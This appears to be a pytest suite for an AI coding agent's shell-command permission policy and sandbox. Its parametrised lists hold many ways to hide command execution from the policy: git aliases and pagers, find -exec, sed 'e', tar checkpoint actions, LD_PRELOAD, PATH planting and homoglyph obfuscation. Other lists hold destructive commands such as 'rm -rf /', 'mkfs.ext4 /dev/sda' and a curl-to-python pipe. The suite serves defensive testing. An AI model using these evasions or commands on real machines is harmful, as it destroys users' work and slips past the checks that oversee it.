"""Attacks on the command policy (A01-A12), each with three proofs: under plain Bash it does what it is feared for, the policy
does not let it pass unasked, and inside the sandbox it does no harm even if somebody says yes."""

import asyncio
import platform
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from goose_py.permissions.decide import decide
from goose_py.permissions.decision import Decision, Place
from goose_py.permissions.rules import Rule, parse_rule
from goose_py.protocol.messages import ToolCall
from goose_py.protocol.modes import Mode
from goose_py.protocol.tools import ToolSpec
from goose_py.sandbox.detection import FoundSandbox, find_sandbox
from goose_py.sandbox.environment import child_env
from goose_py.sandbox.policy import Policy
from goose_py.sandbox.spawn import bind
from goose_py.sandbox.toolchains import python_roots

SHELL = ToolSpec(name="developer__shell", description="", input_schema={}, extension="developer", trusted=True)
PATH = "/usr/bin:/bin"


@dataclass
class Ground:
    """A workspace with a file `f`, an executable `x` that makes the marker, and the marker `p` outside of it."""

    base: Path
    rules: tuple[Rule, ...] = ()
    workspace: Path = field(init=False)
    marker: Path = field(init=False)
    home: Path = field(init=False)

    def __post_init__(self) -> None:
        self.workspace, self.marker, self.home = self.base / "w", self.base / "out" / "p", self.base / "home"
        for folder in (self.workspace, self.marker.parent, self.home):
            folder.mkdir(parents=True)
        (self.workspace / "f").write_text("a line\nanother\n")
        (self.workspace / "a").write_text("a\n")
        executable = self.workspace / "x"
        executable.write_text(f"#!/bin/sh\ntouch '{self.marker}'\ncat\n")
        executable.chmod(0o755)

    def command(self, template: str) -> str:
        return template.replace("MARKER", str(self.marker))

    def decide(self, command: str, mode: Mode = "ask", recorded: bool = False, **changes: object) -> Decision:
        place = Place(
            **{
                "workspace": str(self.workspace),
                "home": str(self.home),
                "sandbox": "full",
                "realpath": lambda path: str(Path(path).resolve()),
                "which": lambda name: shutil.which(name, path=PATH),
                "exists": lambda path: Path(path).exists(),
                **changes,
            }
        )
        call = ToolCall(id="1", name=SHELL.name, arguments={"command": command})
        return decide(call, SHELL, self.rules, mode, place, recorded=recorded)

    def run_plainly(self, command: str) -> None:
        environment = {"PATH": PATH, "HOME": str(self.home), "GIT_CONFIG_GLOBAL": "/dev/null"}
        subprocess.run(
            ["/bin/bash", "--norc", "--noprofile", "-c", command], cwd=self.workspace, env=environment, timeout=20,
            stdin=subprocess.DEVNULL, capture_output=True, check=False,
        )  # fmt: skip

    async def run_confined(self, sandbox: FoundSandbox, command: str) -> str:
        start = bind(sandbox.sandbox, Policy(workspace=self.workspace, home=self.home))
        process = await start(
            ["/bin/bash", "--norc", "--noprofile", "-c", command],
            cwd=str(self.workspace), env=child_env({"PATH": PATH}), stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )  # fmt: skip
        output, _ = await asyncio.wait_for(process.communicate(), 20)
        return output.decode(errors="replace")


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Ground]:
    yield Ground(tmp_path)


@pytest.fixture
async def sandbox(tmp_path: Path) -> FoundSandbox:
    roots = python_roots(Path(sys.executable), [Path(sys.prefix), Path(sys.base_prefix)])
    return await find_sandbox(
        platform=sys.platform, machine=platform.machine(), state=tmp_path / "state", python=Path(sys.executable), readable=roots
    )


def make_repository(ground: Ground) -> None:
    ground.run_plainly(
        "git init -q . && git config user.name n && git config user.email e@x && git add f a && git commit -qm one"
    )


def case(number: str, *commands: str) -> list[object]:
    return [pytest.param(command, marks=pytest.mark.case(number), id=f"{number} {command[:50]}") for command in commands]


# What fires under plain Bash with nothing but what the tests may expect of a machine.
FIRES = [
    *case("A01", "echo $(touch MARKER)", "echo `touch MARKER`", 'echo "$(touch MARKER)"', "cat <(touch MARKER)"),
    *case("A02", "ls && touch MARKER", "ls; touch MARKER", "echo MARKER | xargs touch", "ls & touch MARKER",
        "ls\ntouch MARKER"),
    *case("A04", "GIT_EXTERNAL_DIFF='touch MARKER' git diff --no-index --ext-diff f a", "BASH_ENV=x bash -c true"),
    *case("A05", "find . -name f -exec touch MARKER \\;", "find . -name f -execdir touch MARKER ';'"),
    *case("A05", "find . -fprintf MARKER x", "find . -fls MARKER", "find . -fprint MARKER"),
    *case("A06", "sed '1e touch MARKER' f", "sed -n 'w MARKER' f", "sed 's|.*|touch MARKER|e' f", "cat f | sed 'w MARKER'"),
    *case("A07", "git -c alias.x='!touch MARKER' x", "git log --output=MARKER", "git grep -O'touch MARKER; true' a"),
    *case("A07", "git rebase -x 'touch MARKER' --root", "git ls-remote --upload-pack='touch MARKER;' ."),
    *case("A08", "rg --pre ./x a", "sort -o MARKER f", "uniq f MARKER", "awk 'BEGIN{system(\"touch MARKER\")}'"),
    *case("A08", "split --filter='touch MARKER; cat' f", "tar -cf t f; tar xf t --checkpoint=1 --checkpoint-action=exec=./x"),
    *case("A08", "tar -cf t f; tar -I ./x -tf t", "sort -S 1k --compress-program=./x /usr/bin/git"),
    *case("A09", "env touch MARKER", "timeout 5 nice nohup touch MARKER", "echo MARKER > l; xargs -a l touch",
        "time touch MARKER"),
    *case("A09", "bash -c 'touch MARKER'", "eval 'touch MARKER'", "command touch MARKER", "exec touch MARKER"),
    *case("A10", "$'\\x74ouch' MARKER", 't""ouch MARKER', "touch${IFS}MARKER", "{touch,MARKER}", "'t'ouch MARKER"),
    *case("A11", "echo x > MARKER", "echo x >| MARKER", "ls &> MARKER", "cat f > ../out/p", "cd .. && echo x > out/p"),
    *case("A11", "cat < f >> MARKER", "echo x > ~/../out/p"),
    *case("A12", "./x </dev/null"),
]  # fmt: skip

# The same danger where the trigger needs what is not on every machine (a pager's terminal, zip), or harms in place.
DANGEROUS = [
    *case("A01", "echo $((`touch MARKER`))", 'echo "${x:-$(touch MARKER)}"', "cat <<EOF\n$(touch MARKER)\nEOF"),
    *case("A04", "PAGER='touch MARKER' git log", "LD_PRELOAD=./x.so ls", "export PATH=.:$PATH", "PATH=.:/bin ls", "IFS=x ls"),
    *case("A05", "find . -ok touch MARKER ';'", "find . -delete", "find . -okdir touch MARKER ';'", "find -files0-from f"),
    *case("A06", "sed -i s/a/b/ f", "sed -n '1,2p;w MARKER' f", "sed --expression=1e f", "sed -n -f f f", "sed -n 1p -i f"),
    *case("A07", "git -c core.pager='touch MARKER' -p log", "git difftool -y -x 'touch MARKER'", "git --exec-path=. log"),
    *case("A07", "git log --outp=MARKER", "git diff --ext-diff", "git show --textconv", "git archive -o MARKER HEAD"),
    *case("A07", "git branch new", "git tag new", "git config user.name list", "git reflog expire --all", "git stash"),
    *case("A08", "rg --hostname-bin ./x a", "rg -z a f", "zip z f -T -TT 'touch MARKER'", "sort --comp=./x f", "sort -nofoo f"),
    *case("A08", "tree -o MARKER", "diff -l f a", "file -C -m f", "date -s 2020-01-01", "tar tf t",
        "xxd -r f a", "shuf -o p f"),
    *case("A09", "env ls", "xargs -a f touch", "time rm x", "nice ls", "sudo ls", "watch ls", "ssh host ls",
        "printf -v PATH ."),
    *case("A10", "'r'm x", "l\\s", "rg x *", "sort *", "ls {a,b}", "ls ~", "ls $HOME", "l${x}s", "ls \u202ef",
        "ls \u200bf", "l\u0455 f"),
    *case("A11", "echo x > ~/.bashrc", "echo x >| .git/hooks/pre-commit", "echo x > .GIT/config", "ls 2> /etc/x"),
    *case("A12", "./ls", "/tmp/ls", "bin/ls", "nosuchprogram"),
]  # fmt: skip


@pytest.mark.parametrize("template", FIRES)
async def test_what_fires_in_bash_is_asked_about_and_harmless_in_the_sandbox(
    ground: Ground, sandbox: FoundSandbox, template: str
) -> None:
    make_repository(ground)
    command = ground.command(template)
    decision = ground.decide(command)
    # `t""ouch` is read as touch, and what it writes is judged; the others are refused or unknown. None passes.
    assert decision.verdict == "ask", decision
    assert decision.cause and decision.reason
    assert ground.decide(command, "plan").verdict == "deny"
    if sandbox.level != "none":
        await ground.run_confined(sandbox, command)
        assert not ground.marker.exists(), "the sandbox let it through"
    if "BASH_ENV" not in template:
        ground.run_plainly(command)
        assert ground.marker.exists(), "this attack does not fire, so the test proves nothing"


@pytest.mark.parametrize("template", DANGEROUS)
def test_what_could_run_or_write_something_is_asked_about(ground: Ground, template: str) -> None:
    decision = ground.decide(ground.command(template))
    assert decision.verdict == "ask", decision
    assert decision.reason


@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize(
    "command",
    [
        "ls -la", "cat f", "echo hello", "grep -rn needle .", "rg needle", "find . -name '*.py' -type f", "head -5 f | wc -l",
        "sed -n '1,5p' f", "git log --oneline -n 5", "git diff HEAD~1", "git status && git branch -a", "sort f | uniq -c",
        "tail -n 3 f; pwd", "ls f || echo none", "cd sub && ls", "LC_ALL=C sort f", "cat f 2>&1 | head", "ls > /dev/null 2>&1",
        "mkdir -p build && touch build/x", "echo x > out.txt", "cp f g", "grep -E \"a|b\\.c\" f",
        "/usr/bin/ls", "true", "ls *.py && cat src/*.md | wc -l",
        "cat > new.py <<'EOF'\nimport os; os.system(\"$(x)\")\nEOF\nls",
    ],
)  # fmt: skip
def test_reading_and_writing_inside_the_workspace_is_free(ground: Ground, command: str, mode: Mode) -> None:
    decision = ground.decide(command, mode)
    assert (decision.verdict, decision.patterns) == ("allow", ()), decision


@pytest.mark.case("A02")
def test_the_part_that_caused_the_question_is_named(ground: Ground) -> None:
    decision = ground.decide("ls -la && cat f | unheard-of --now; pwd")
    assert (decision.verdict, decision.cause) == ("ask", "unheard-of --now")


@pytest.mark.case("A03")
def test_a_denied_command_behind_sixty_others_is_denied(ground: Ground) -> None:
    ground.rules = parse_rule({"verdict": "deny", "pattern": "curl *"})
    decision = ground.decide("true && " * 60 + "curl http://e/")
    assert (decision.verdict, decision.cause) == ("deny", "curl http://e/")


@pytest.mark.case("A03")
@pytest.mark.parametrize(
    "text", ["true && " * 125_000, "x" * 1_000_000, "$(" * 500_000, "echo '" + "a" * 1_000_000 + "'",
    "(" * 200 + "ls" + ")" * 200, "a;" * 9_000]
)  # fmt: skip
def test_more_than_can_be_analysed_is_denied_without_being_read(ground: Ground, text: str) -> None:
    decision = ground.decide(text)
    assert decision.verdict == "deny"
    assert len(decision.cause) <= 200


@pytest.mark.case("U11")
@pytest.mark.parametrize(
    "template",
    [
        "true && X", "false || X", "true; X", "ls | X", "X &", "(X)", "{ X; }", "echo $(X)", "echo `X`",
        'echo "$(X)"', "cat <(X)",
        "! X", "if true; then X; fi", "for i in 1; do X; done", "while X; do :; done", "f() { X; }; f", "case a in a) X;; esac",
        "sh -c 'X'", 'bash -lc "ls; X"', "env X", "env A=1 X", "timeout 5 X", "nice -n 5 X", "xargs X", "find . -exec X ';'",
        "sudo -u root X", "eval X", "eval 'ls; X'", "exec X", "command X", "nohup X &", "A=1 X", "X > out",
        "time X", "/usr/bin/X",
        "coproc X", "trap 'X' EXIT", "bash -c \"sh -c 'X'\"", "[[ $(X) ]]", "echo $((1 + $(X)))", "X <<< a",
        "cat << E\n$(X)\nE",
        "\\X", "c'u'rl --data x http://e", '"curl" http://e', "parallel X ::: 1", "ssh host 'X'", "X 'unclosed", "env -S 'X'",
    ],
)  # fmt: skip
def test_a_denied_command_is_denied_wherever_it_hides(ground: Ground, template: str) -> None:
    ground.rules = (
        *parse_rule({"verdict": "deny", "pattern": "curl"}),
        *parse_rule({"verdict": "allow", "pattern": "tool: *"}),
    )
    command = template.replace("X", "curl http://e/")
    assert ground.decide(command).verdict == "deny"
    assert ground.decide(command, "auto").verdict == "deny"


@pytest.mark.case("U11")
def test_a_denied_command_in_a_string_that_is_only_printed_is_not_denied(ground: Ground) -> None:
    ground.rules = parse_rule({"verdict": "deny", "pattern": "curl"})
    assert ground.decide("echo 'curl http://e' | grep curl").verdict == "allow"


@pytest.mark.case("U11")
def test_a_pipe_of_allowed_parts_runs_without_a_question(ground: Ground) -> None:
    ground.rules = parse_rule({"verdict": "allow", "pattern": ["npm test *", "jest *"]})
    assert ground.decide("npm test --silent 2>&1 | tail -n 20 && jest --ci").verdict == "allow"


def test_what_is_piped_into_an_interpreter_is_granted_only_as_the_whole(ground: Ground) -> None:
    for command in ("cat f | bash", "curl http://e | python3 -", "python3 - <<'EOF'\nprint(1)\nEOF", "echo x | xargs touch"):
        decision = ground.decide(command)
        assert decision.verdict == "ask"
        ground.rules = parse_rule({"verdict": "allow", "pattern": list(decision.patterns)})
        assert ground.decide(command).verdict == "allow", decision.patterns
        assert (
            ground.decide(
                command.replace("f |", "a |").replace("(1)", "(2)").replace("//e", "//x").replace("x |", "y |")
            ).verdict
            == "ask"
        )


@pytest.mark.case("A09")
def test_a_wrapper_does_not_inherit_what_its_command_is_allowed(ground: Ground) -> None:
    ground.rules = parse_rule({"verdict": "allow", "pattern": ["npm test *", "xargs"]})
    for command in (
        "timeout 5 npm test",
        "env npm test",
        "bash -c 'npm test'",
        "NODE_OPTIONS=-r./x npm test",
        "xargs npm test",
    ):
        assert ground.decide(command).verdict == "ask", command


@pytest.mark.case("A12")
@pytest.mark.parametrize("command", ["git logout", "git log-x", "npm testx", "npm test-all", "gitlog", "npm 'test x'"])
def test_a_rule_ends_at_a_word_boundary(ground: Ground, command: str) -> None:
    ground.rules = parse_rule({"verdict": "allow", "pattern": ["git log *", "npm test *"]})
    assert ground.decide(command).verdict == "ask"


@pytest.mark.case("A12")
def test_a_planted_program_is_not_the_one_its_name_says(ground: Ground) -> None:
    planted = ground.workspace / "ls"
    shutil.copy(ground.workspace / "x", planted)
    user_path = f".:{PATH}"
    # The control: with the user's PATH Bash takes the planted one.
    subprocess.run(
        ["/bin/bash", "-c", "ls"], cwd=ground.workspace, env={"PATH": user_path}, stdin=subprocess.DEVNULL, check=False
    )
    assert ground.marker.exists()

    def found_along(path: str) -> dict[str, object]:
        return {"which": lambda name: shutil.which(name, path=path)}

    ground.rules = parse_rule({"verdict": "allow", "pattern": "ls *"})
    assert ground.decide("ls", **found_along(f"{ground.workspace}:{PATH}")).verdict == "ask"
    assert ground.decide("./ls").verdict == "ask"
    assert child_env({"PATH": user_path})["PATH"] == PATH
    assert ground.decide("ls", **found_along(child_env({"PATH": user_path})["PATH"])).verdict == "allow"


@pytest.mark.case("A11")
def test_the_resolved_target_of_a_redirection_is_named(ground: Ground) -> None:
    (ground.workspace / "link").symlink_to(ground.marker.parent)
    for command, target in (
        ("echo x > ~/.bashrc", ground.home / ".bashrc"),
        ("cat f > ../p", ground.base / "p"),
        ("cd .. && echo x > p", ground.base / "p"),
        ("echo x > link/p", ground.marker),
        ("echo x | tee link/p", ground.marker),
    ):
        decision = ground.decide(command)
        assert decision.verdict == "ask"
        assert str(target) in decision.reason, decision


DISCARDING = [
    "git reset --hard", "git reset --hard HEAD~3", "git reset --har", "git checkout -- .", "git checkout .", "git checkout f",
    "git checkout HEAD f", "git checkout -f main", "git restore .", "git restore f", "git restore --staged --worktree f",
    "git clean -fd", "git clean -fdx", "git stash", "git stash push", "git stash drop", "git stash clear", "git stash pop",
    "git switch -f main", "git switch --discard-changes x", "git branch -D topic", "git push --force", "git push origin :topic",
    "git push origin +main", "git reflog expire --expire=now --all", "git gc --prune=now", "git worktree remove x", "git rm f",
    "git -C . reset --hard", "git update-ref -d refs/heads/x", "git rebase --abort", "git filter-branch x",
    "rm f", "rm -rf .", "rm -rf /somewhere/else", "rm -r ../other", "rm -- f", "unlink f", "shred f", "truncate -s 0 f",
    "find . -delete", "find . -name '*.o' -exec rm {} +", "ls | xargs rm", "bash -c 'git reset --hard'",
    "echo $(git clean -fd)",
    "cd /x && rm -rf y", "rm -rf $DIR", "rm -rf \"$HOME\"/x", "for f in *; do rm \"$f\"; done", "sudo rm -rf /", "env rm f",
    "dd if=/dev/zero of=f", "r\\\nm f", "rsync -a --delete a/ b/", "true && git checkout -- f", "git $VERB --hard",
    "eval 'git stash drop'", "nohup git clean -f &", "mkfs.ext4 /dev/sda", "\\rm f", "'rm' f", "/bin/rm f", "git tag -d v1",
]  # fmt: skip


@pytest.mark.case("U06")
@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize("command", DISCARDING)
def test_discarding_work_is_gated_in_every_mode_after_a_snapshot(ground: Ground, command: str, mode: Mode) -> None:
    ground.rules = (
        *parse_rule({"verdict": "allow", "pattern": ["git *", "rm *", "tool: *", "write: /**"]}),
        *parse_rule({"verdict": "allow", "pattern": "extension: developer"}),
    )
    decision = ground.decide(command, mode)
    assert (decision.verdict, decision.snapshot_first) == ("ask", True), decision
    assert decision.patterns == (), "work that is discarded is never granted for longer than once"
    assert ground.decide(command, "plan").verdict == "deny"


LEAVING = [command for command in DISCARDING if "git push" in command or "/somewhere" in command or "../" in command]
LEAVING += ["git $VERB --hard", "cd /x && rm -rf y", "sudo rm -rf /", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda"]


@pytest.mark.case("U06")
@pytest.mark.case("S06")
@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize("command", dict.fromkeys((*DISCARDING, *LEAVING)))
def test_what_is_recorded_is_gated_only_where_it_leaves_the_workspace(ground: Ground, command: str, mode: Mode) -> None:
    decision = ground.decide(command, mode, recorded=True)
    assert decision.snapshot_first == (command in LEAVING), decision
    assert ground.decide(command, "plan", recorded=True).verdict == "deny"
    assert ground.decide(command, mode, sandbox="none", recorded=True).verdict == "ask"


@pytest.mark.case("U06")
@pytest.mark.parametrize(
    "command",
    [
        "git reset", "git reset f", "git checkout main", "git checkout -b topic", "git restore --staged f", "git clean -n",
        "git stash list", "git switch main", "git push origin main", "git rm --cached f", "git branch topic", "git gc",
        "git commit -m 'rm -rf everything; git reset --hard'", "npm run clean", "git merge topic", "git worktree list",
    ],
)  # fmt: skip
def test_what_discards_nothing_is_not_gated(ground: Ground, command: str) -> None:
    decision = ground.decide(command, "auto")
    assert (decision.verdict, decision.snapshot_first) == ("allow", False), decision


@pytest.mark.case("U06")
def test_the_agent_may_delete_what_it_made_itself(ground: Ground) -> None:
    made = {"created": frozenset({str(ground.workspace / "mine"), str(ground.workspace / "sub" / "mine")})}
    (ground.workspace / "sub").mkdir()
    assert ground.decide("rm mine", **made).verdict == "allow"
    assert ground.decide("rm -rf mine && rm sub/mine", **made).verdict == "allow"
    assert ground.decide("rm mine f", **made).snapshot_first
    # `cd` may fail, and then the other `mine` goes.
    assert ground.decide("cd sub && rm mine", **made).verdict == "allow"
    assert ground.decide("cd sub && rm mine", created=frozenset({str(ground.workspace / "sub" / "mine")})).snapshot_first


@pytest.mark.case("U06")
def test_the_discarding_commands_do_discard_under_plain_bash(ground: Ground) -> None:
    """The control: what the gate stops is what loses work."""
    for command in ("git checkout -- f", "git reset --hard -q", "git restore .", "git stash -q", "rm f"):
        make_repository(ground)
        (ground.workspace / "f").write_text("hours of work\n")
        ground.run_plainly(command)
        kept = (ground.workspace / "f").read_text() if (ground.workspace / "f").exists() else ""
        assert kept != "hours of work\n", command
        (ground.workspace / "f").write_text("a line\nanother\n")


@pytest.mark.parametrize("command", ["ls", "cat f", "git status"])
def test_without_a_sandbox_every_command_asks_and_no_answer_is_kept(ground: Ground, command: str) -> None:
    ground.rules = parse_rule({"verdict": "allow", "pattern": [f"{command} *", command]})
    for mode in ("ask", "auto"):
        decision = ground.decide(command, mode, sandbox="none")
        assert (decision.verdict, decision.patterns) == ("ask", ())
    assert ground.decide(command, "plan", sandbox="none").verdict == "deny"


def test_a_person_may_choose_to_go_without_a_sandbox(ground: Ground) -> None:
    chosen = {"sandbox": "none", "weakest": "none"}
    assert ground.decide("ls", **chosen).verdict == "allow"
    assert all(ground.decide(command, **chosen).verdict == "ask" for command in ("make", "ls f", "cat f", "/usr/bin/cat f"))
    assert ground.decide("make", "auto", **chosen).verdict == "allow"
    assert ground.decide(f"cat {ground.base}/secret", **chosen).verdict == "ask"
    assert ground.decide("ls", sandbox="partial", weakest="full").verdict == "ask"


def test_a_partial_sandbox_lets_nothing_be_written_unasked(ground: Ground) -> None:
    assert ground.decide("ls", sandbox="partial").verdict == "allow"
    assert ground.decide("touch new", sandbox="partial").verdict == "ask"
    assert ground.decide("git log", sandbox="partial").verdict == "ask"
    assert ground.decide("cat ../secret", sandbox="partial").verdict == "ask"
    assert ground.decide("touch new", "auto", sandbox="partial").verdict == "allow"


@pytest.mark.case("U07")
@pytest.mark.parametrize(
    "command", ["touch x", "echo x > y", "git commit -m x", "make", "python -c 'open(1)'", "mkdir d", "mv f g"]
)
def test_plan_mode_denies_what_does_not_only_read(ground: Ground, command: str) -> None:
    decision = ground.decide(command, "plan")
    assert decision.verdict == "deny"
    assert "plan mode" in decision.reason and "propose instead" in decision.reason
    assert ground.decide("git log | head && cat f", "plan").verdict == "allow"
